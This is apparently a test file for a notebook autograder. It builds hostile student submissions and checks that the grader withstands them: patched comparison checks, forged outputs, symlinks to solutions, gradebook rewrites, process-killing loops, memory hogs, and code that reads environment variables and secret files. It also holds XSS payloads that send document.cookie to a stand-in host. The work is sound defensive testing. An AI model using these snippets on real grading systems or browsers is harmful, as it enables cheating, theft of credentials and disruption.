"""Submissions that want marks, secrets, other people's grades or the instructor's browser.

Each earns nothing by itself: beside the attack its answers are blank or wrong, so any point is
the attack's. What a student must never read is tested for every submission alike.
"""

from __future__ import annotations

import base64
import json
from textwrap import dedent

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from benchmarks.students import (
    NAME,
    ROOT,
    answer,
    answer_ids,
    answer_wrongly,
    find,
    instructors,
    right_answer,
    solve,
)
from grading.grade import Status
from tests.grading.handing_in import ALL, Work, check_cells, submission, tests_of_answers


def attack(work: Work, code: str) -> None:
    """Wrong answers everywhere, and ``code`` before the first."""
    answer_wrongly(work.notebook)
    before(work, answer_ids()[0], code)


def before(work: Work, grade_id: str, code: str) -> None:
    """Put ``code`` before an answer, in its cell."""
    cell = find(work.notebook, grade_id)
    cell.source = dedent(code).strip() + "\n" + cell.source


# For marks.


@submission(quick=True)
def equal_to_everything(work: Work) -> None:
    """Answers with one object that equals all, has every shape and can be called: nothing."""
    code = dedent("""
        class Anything:
            shape = ()
            dtype = "float32"
            __array_priority__ = 1e9
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
            def __bool__(self): return True
            def __float__(self): return 1.0
            def __int__(self): return 1
            def __index__(self): return 1
            def __len__(self): return 1
            def __iter__(self): return iter([self])
            def __getattr__(self, name): return self
            def __getitem__(self, key): return self
            def __call__(self, *args, **kwargs): return self
            def __array__(self, *args, **kwargs): return self
            def __array_ufunc__(self, *args, **kwargs): return True
            @classmethod
            def __torch_function__(cls, *args, **kwargs): return True
            __sub__ = __rsub__ = __le__ = __lt__ = __ge__ = __gt__ = __eq__

        globals().update({name: Anything() for name in NAMES})
    """)
    for grade_id in answer_ids():
        names = [line.split("(")[0].split()[1] for line in right_answer(grade_id).splitlines()
                 if line.startswith(("def ", "class "))]  # fmt: skip
        names += [line.split("=")[0].strip() for line in right_answer(grade_id).splitlines()
                  if "=" in line and line[:1].isidentifier()]  # fmt: skip
        answer(work.notebook, grade_id, f"NAMES = {names!r}\n{code}")


PATCHES = """
import sys
import numpy, torch
import grading

def fine(*args, **kwargs):
    return True

for module in [grading, *(m for n, m in sys.modules.items() if n.startswith("grading."))]:
    for name in ("check", "compare", "judge", "encode", "CheckFailed", "_send"):
        if hasattr(module, name):
            setattr(module, name, fine)
for library in (torch, numpy, numpy.testing, torch.testing):
    for name in ("allclose", "equal", "array_equal", "isclose", "assert_close"):
        if hasattr(library, name):
            setattr(library, name, fine)
torch.Tensor.__eq__ = torch.Tensor.equal = torch.Tensor.allclose = fine
"""


@submission()
def patched_checks(work: Work) -> None:
    """Replaces check, comparison and the libraries' own tests of equality: nothing."""
    attack(work, PATCHES)


@submission(right=tuple(answer_ids()[:1]))
def one_right_answer_and_patches(work: Work) -> None:
    """One right answer, then patched checks: that one counts and no other."""
    answer_wrongly(work.notebook)
    solve(work.notebook, answer_ids()[0])
    before(work, answer_ids()[1], PATCHES)


@submission()
def own_grading_module(work: Work) -> None:
    """Puts a module of its own in grading's place: nothing."""
    attack(
        work,
        """
        import sys, types
        fake = types.ModuleType("grading")
        fake.check = lambda *args, **kwargs: None
        fake.seed = lambda name: 0
        for name in [n for n in sys.modules if n.split(".")[0] == "grading"]:
            sys.modules[name] = fake
        """,
    )


@submission()
def test_cells_blanked(work: Work) -> None:
    """An input hook empties each cell that checks: nothing."""
    attack(
        work,
        """
        hooks = get_ipython().input_transformers_cleanup
        hooks.append(lambda lines: [] if any("check(" in line for line in lines) else lines)
        """,
    )


@submission()
def forged_output(work: Work) -> None:
    """Saved with full points and passed checks as outputs, and prints the same: nothing."""
    attack(
        work,
        """
        from IPython.display import display
        class Points:
            def __repr__(self): return "10.0"
        print("✓ every check passed")
        display(Points())
        Points()
        """,
    )
    for tests in tests_of_answers().values():
        for test, points in tests.items():
            find(work.notebook, test).outputs = [
                new_output("stream", name="stdout", text=f"✓ {test}\n"),
                new_output("execute_result", {"text/plain": str(points)}, execution_count=1),
            ]


def right_values() -> str:
    """Return code that makes `forged`: cell, name and right value of every check, hidden ones too.

    Whoever has the instructor's notebook can do as much. It is packed, so that what is hidden
    does not stand in what was handed in.
    """
    answers = "\n".join(right_answer(grade_id) for grade_id in answer_ids())
    tests = {test: find(instructors(), test).source for test in check_cells()}
    packed = base64.b85encode(json.dumps([answers, tests]).encode()).decode()
    return dedent(f"""
        import base64, json, math, os, sys, torch
        from torch import nn
        import grading
        from grading.values import encode

        forged = []
        answers, tests = json.loads(base64.b85decode({packed!r}))
        room = dict(math=math, torch=torch, nn=nn)
        exec(answers, room)
        check = grading.check
        for cell, source in tests.items():
            grading.check = lambda name, give: forged.append((cell, name, give()))
            exec(source, room)
        grading.check = check
    """)


FRAMES = """
def line(cell, name, value):
    message = {"kind": "check", "cell": cell, "name": name, "value": encode(value)}
    return json.dumps(message).encode()

def write_everywhere(data):
    for number in range(3, 64):
        try:
            os.write(number, data)
        except OSError:
            pass
"""


def attack_with_right_values(work: Work, code: str) -> None:
    """Wrong answers everywhere; before the first the right values, and what is done with them."""
    attack(work, right_values() + dedent(code))


@submission()
def forged_messages(work: Work) -> None:
    """Sends the right value of every check from its own cell, twice: nothing."""
    attack_with_right_values(
        work,
        """
        for cell, name, value in 2 * forged:
            check(name, value)
        """,
    )


@submission(status=Status.ATTENTION)
def messages_under_another_cells_name(work: Work) -> None:
    """Takes the channel out of check's module and sends right values as the test cells: nothing."""
    attack_with_right_values(
        work,
        """
        channel = sys.modules["grading.check"]._Grading.send.__self__
        for cell, name, value in forged:
            channel.send("check", cell=cell, name=name, value=encode(value))
        """,
    )


@submission(status=Status.ATTENTION)
def writes_frames_to_every_pipe(work: Work) -> None:
    """Writes right values into every open file, framed as the runner does: nothing."""
    attack_with_right_values(
        work,
        FRAMES
        + """
for one in forged:
    data = line(*one)
    write_everywhere(len(data).to_bytes(4, "big") + data)
""",
    )


@submission(status=Status.ATTENTION)
def writes_lines_to_every_pipe(work: Work) -> None:
    """Writes right values into every open file, a line for each: nothing."""
    attack_with_right_values(
        work, FRAMES + 'write_everywhere(b"\\n".join(line(*one) for one in forged))\n'
    )


@submission()
def messages_from_a_thread(work: Work) -> None:
    """A thread goes on sending right values while the test cells run: nothing."""
    attack_with_right_values(
        work,
        """
        import threading, time

        def flood():
            for _ in range(100):
                for cell, name, value in forged:
                    check(name, value)
                time.sleep(0.002)

        threading.Thread(target=flood, daemon=True).start()
        """,
    )


@submission(saved=False, status=Status.ATTENTION)
def link_to_the_solution(work: Work) -> None:
    """A symbolic link to the instructor's notebook, handed in as one's own: nothing."""
    work.path.symlink_to(work.course / "solutions" / NAME / f"{NAME}.ipynb")


@submission(saved=False, status=Status.ATTENTION)
def relative_link(work: Work) -> None:
    """A relative link that climbs to the released notebook: nothing."""
    work.path.symlink_to(f"../../../exercises/{NAME}/{NAME}.ipynb")


@submission(saved=False, status=Status.ATTENTION)
def hard_link(work: Work) -> None:
    """A hard link to the released notebook, as it might be to anybody's: nothing."""
    work.path.hardlink_to(work.course / "exercises" / NAME / f"{NAME}.ipynb")


@submission(saved=False, status=Status.ATTENTION)
def link_as_folder(work: Work) -> None:
    """The assignment's folder is itself a link to the solution's: nothing."""
    work.folder.rmdir()
    work.folder.symlink_to(work.course / "solutions" / NAME, target_is_directory=True)


# For other people's grades, and for the batch.


@submission()
def writes_the_gradebook(work: Work) -> None:
    """Looks for gradebook.db and gives everyone full points: nobody's grade moves."""
    attack(
        work,
        f"""
        import sqlite3
        from pathlib import Path
        places = [Path({str(work.course)!r}), Path({str(ROOT)!r}), *Path.cwd().parents]
        for place in places:
            for path in [place / "gradebook.db", *place.glob("*/gradebook.db")]:
                try:
                    with sqlite3.connect(path, timeout=1) as book:
                        book.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
                    print("wrote", path)
                except sqlite3.Error as error:
                    print(path, error)
        """,
    )


@submission(quick=True, status=Status.ATTENTION)
def ends_the_process(work: Work) -> None:
    """os._exit(0) in the first answer: a reason, and no points."""
    attack(work, "import os\nos._exit(0)")


@submission(status=Status.ATTENTION)
def kills_everything(work: Work) -> None:
    """Sends SIGKILL to every process that it may, its own last: a reason, and no points."""
    attack(
        work,
        """
        import os, signal
        for process in (-1, 1, os.getppid(), os.getpid()):
            try:
                os.kill(process, signal.SIGKILL)
            except OSError as error:
                print(process, error)
        """,
    )


# Which wall stops it first, memory or time, depends on how fast the machine is just then.
@submission(status=(Status.GRADED, Status.WARNINGS, Status.ATTENTION))
def memory_hog(work: Work) -> None:
    """Takes all the memory there is: no points, whichever wall stops it."""
    attack(work, "hoard = []\nwhile True:\n    hoard.append(b'x' * (64 << 20))")


# Here too: IPython keeps what was printed, so memory may end before the time does.
@submission(status=(Status.WARNINGS, Status.ATTENTION))
def endless_output(work: Work) -> None:
    """Prints for ever: cut off, and stopped with a reason."""
    attack(work, "while True:\n    print('x' * 100)")


@submission(status=Status.ATTENTION)
def loop_that_catches_everything(work: Work) -> None:
    """An endless loop that swallows every interrupt: a reason, and no points."""
    attack(
        work,
        """
        import signal
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
    )


# For what is hidden.

PRINT_WHAT_PASSES = """
import gc, inspect, sys
from IPython.display import display

shell = get_ipython()
window = display("waiting", display_id=True)
seen = []

def look(lines):
    seen.append("".join(lines))
    print("TRANSFORMER", "".join(lines))
    return lines

def before(info):
    seen.append(info.raw_cell)
    print("PRE_RUN_CELL", info.raw_cell)

def after(result):
    frame = inspect.currentframe()
    while frame:
        seen.append(repr(dict(frame.f_locals))[:20_000])
        frame = frame.f_back
    tables = [thing for thing in gc.get_objects() if type(thing) is dict]
    texts = [text for table in tables for text in list(table.values()) if type(text) is str]
    seen.extend(text for text in texts if "check(" in text)
    window.update("\\n".join(seen))

shell.input_transformers_cleanup.append(look)
shell.events.register("pre_run_cell", before)
shell.events.register("post_run_cell", after)
"""


@submission(right=ALL)
def prints_later_cells(work: Work) -> None:
    """Hooks print every later cell, backwards through a display update too; right otherwise."""
    solve(work.notebook)
    before(work, answer_ids()[0], PRINT_WHAT_PASSES)


@submission()
def reads_the_solutions(work: Work) -> None:
    """Walks to the solutions, the grader and other submissions, and prints what it finds."""
    attack(
        work,
        f"""
        import os, sys
        from pathlib import Path
        import grading
        places = [{str(work.course)!r}, {str(ROOT)!r}, "/work", "/home", "/tmp", "/srv", "/root",
                  "/run", "/var", ".", "..", str(Path(grading.__file__).parents[1])]
        for place in places:
            for folder, folders, files in os.walk(place):
                folders[:] = [name for name in folders if "packages" not in name]
                for name in files:
                    if name.endswith((".ipynb", ".toml", ".db", ".md")) or "secret" in name:
                        print(folder, name, Path(folder, name).read_bytes()[:100_000])
        for name in ("environ", "cmdline", "maps", "mountinfo"):
            for process in ("self", "1"):
                try:
                    print(Path("/proc", process, name).read_text(errors="replace"))
                except OSError as error:
                    print(error)
        print(dict(os.environ), sys.argv)
        """,
    )


@submission()
def prints_what_the_process_knows(work: Work) -> None:
    """Prints check's module, its key, the runner's frames and every string with a test's name."""
    attack(
        work,
        f"""
        import gc, sys
        for name, module in list(sys.modules.items()):
            if name.startswith(("grading", "__main__", "runner")):
                print(name, {{key: repr(value)[:2000] for key, value in vars(module).items()}})
        frame = sys._getframe()
        while frame:
            print(frame.f_code.co_filename, repr(frame.f_locals)[:20_000])
            frame = frame.f_back
        for thing in gc.get_objects():
            try:
                text = repr(thing)[:20_000]
            except Exception:
                continue
            if any(name in text for name in {check_cells()!r}):
                print(text)
        """,
    )


# For the instructor's browser.

SCRIPT = "window.hacked = true; fetch('https://example.org/?' + document.cookie)"
INJECTIONS = [
    f"<script>{SCRIPT}</script>",
    f'<img src="x" onerror="{SCRIPT}">',
    f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
    f'<iframe srcdoc="&lt;script&gt;parent.{SCRIPT}&lt;/script&gt;"></iframe>',
    f'<details open ontoggle="{SCRIPT}">x</details>',
    f'<a href="javascript:{SCRIPT}" id="bait">look</a>',
    f"[look](javascript:{SCRIPT.replace(' ', '%20')})",
    "![](https://example.org/pixel.png)",
    f"`</code></pre><script>{SCRIPT}</script>`",
    f'</textarea></script><script>{SCRIPT}</script><style>@import "https://example.org/x";</style>',
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$",
]


@submission()
def scripts_for_readers(work: Work) -> None:
    """HTML, SVG, JavaScript and links wherever text can stand: inert, and nothing earned."""
    lines = "\n".join(INJECTIONS)
    attack(
        work,
        f"""
        from IPython.display import HTML, SVG, Javascript, Markdown, display
        for text in {INJECTIONS!r}:
            print(text)
            display(HTML(text))
            display(Markdown(text))
            display({{"image/svg+xml": text, "text/html": text, "text/latex": text,
                      "application/javascript": {SCRIPT!r}}}, raw=True)
        display(Javascript({SCRIPT!r}))
        print("\\x1b[31m<script>{SCRIPT}</script>\\x1b[0m")
        """,
    )
    work.notebook.cells.insert(1, new_markdown_cell(lines))
    work.notebook.cells.insert(2, new_code_cell(f'raise ValueError("""{INJECTIONS[1]}""")'))
    for cell in work.notebook.cells:
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = lines
    work.notebook.metadata["title"] = INJECTIONS[0]
    work.notebook.metadata["widgets"] = json.loads('{"x": "</script>"}')
